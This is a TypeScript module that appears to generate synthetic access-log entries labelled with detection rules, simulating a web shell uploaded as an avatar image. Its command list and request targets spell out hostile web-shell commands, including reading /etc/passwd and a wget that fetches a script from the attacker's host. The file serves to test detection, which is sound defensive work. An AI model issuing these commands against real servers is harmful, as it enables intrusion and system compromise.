import { accessLogLine } from '../access-log.ts'
import type { Random } from '../random.ts'
import { RULE } from '../rule-ids.ts'
import type { Step } from '../story.ts'
import { attackerAddress, BROWSERS } from '../world.ts'

const COMMANDS = ['id', 'whoami', 'uname+-a', 'ls%20-la%20/var/www', 'ps+aux'] as const

/** A script goes up as somebody's picture, and is then asked to run commands. */
export function webShell(random: Random): Step[] {
  const client = attackerAddress(random)
  const agent = random.pick(BROWSERS)
  const shell = `/uploads/avatar-${random.hex(6)}.php`
  const parameter = random.pick(['cmd', 'exec', 'c'])
  const request = (method: string, target: string, status: number, ...rules: string[]): Step => {
    const bytes = random.between(20, 3000)
    return {
      line: time_ms => accessLogLine(time_ms, { client, method, target, status, bytes, agent }),
      rules,
    }
  }
  return [
    request('GET', '/account/avatar', 200),
    request('POST', '/account/avatar', 302),
    request('GET', shell, 200),
    ...COMMANDS.map(command => request('GET', `${shell}?${parameter}=${command}`, 200, RULE.webShellCommand)),
    request('GET', `${shell}?${parameter}=cat+/etc/passwd`, 200, RULE.webShellCommand, RULE.webPathTraversal),
    request(
      'GET',
      `${shell}?${parameter}=wget+http://${client}/x.sh+-O+/tmp/x.sh`,
      200,
      RULE.webShellCommand,
    ),
  ]
}
